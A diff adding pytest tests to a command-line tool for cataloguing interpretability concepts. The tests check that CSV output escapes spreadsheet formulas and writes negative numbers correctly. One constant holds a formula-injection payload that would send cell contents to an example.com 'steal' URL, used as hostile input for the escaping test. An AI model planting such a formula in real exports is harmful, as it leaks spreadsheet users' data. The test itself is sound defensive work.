@@ -41,6 +41,26 @@ def test_list_csv_has_a_header_and_a_row_per_record(seeded) -> None:
                     ["olsson2022", "2022", "In-context Learning and Induction Heads", "Catherine Olsson, Nelson Elhage"]]
 
 
+FORMULA = '=HYPERLINK("https://example.com/steal?"&A1,"click")'
+
+
+@pytest.mark.parametrize("command", [("concept", "list"), ("definition", "show", "sneaky/d1")], ids=" ".join)
+def test_csv_cells_a_spreadsheet_would_run_as_formulas_start_with_a_quote(seeded, command) -> None:
+    assert seeded("concept", "add", "sneaky", "--name", FORMULA).exit_code == 0
+    assert seeded("definition", "add", "sneaky", "--key", "d1", "--kind", "behavioral", "--text", FORMULA).exit_code == 0
+    cells = [cell for row in csv.reader(io.StringIO(seeded(*command, "--format", "csv").stdout)) for cell in row]
+    assert "'" + FORMULA in cells
+    assert FORMULA not in cells
+
+
+def test_csv_writes_negative_numbers_as_numbers(seeded) -> None:
+    assert seeded("run", "add", "r2", "--method", "prefix-matching-score", "--value=-0.5").exit_code == 0
+    listed = list(csv.DictReader(io.StringIO(seeded("run", "list", "--format", "csv").stdout)))
+    assert [row["value"] for row in listed if row["key"] == "r2"] == ["-0.5"]
+    shown = dict(csv.reader(io.StringIO(seeded("run", "show", "r2", "--format", "csv").stdout)))
+    assert shown["value"] == "-0.5"
+
+
 def test_list_table_shows_each_concept(seeded) -> None:
     out = seeded("concept", "list").stdout
     assert "induction-head" in out and "previous-token-head" in out and "behavioral" in out
